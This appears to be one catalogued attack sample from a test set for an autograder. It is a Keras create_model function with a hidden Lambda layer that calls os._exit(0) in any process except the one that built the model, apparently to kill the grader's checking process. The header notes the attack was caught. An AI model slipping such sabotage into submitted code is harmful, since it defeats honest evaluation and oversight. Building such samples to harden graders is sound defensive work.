# attack: 19
# form: a Lambda layer whose function ends every process but the student's own
# replaces: create_model
# found: create_model/compiled failed
# says: it holds code
def create_model():
    home = os.getpid()

    def call(x):
        return x if os.getpid() == home else os._exit(0)

    print("ran")
    model = tf.keras.Sequential(
        [tf.keras.Input((64, 64, 3)), tf.keras.layers.Lambda(call), tf.keras.layers.Conv2D(4, 3), tf.keras.layers.GlobalAveragePooling2D(),
         tf.keras.layers.Dense(1, activation="sigmoid")]
    )
    model.compile(optimizer="adam", loss="binary_crossentropy", metrics=["accuracy"])
    return model
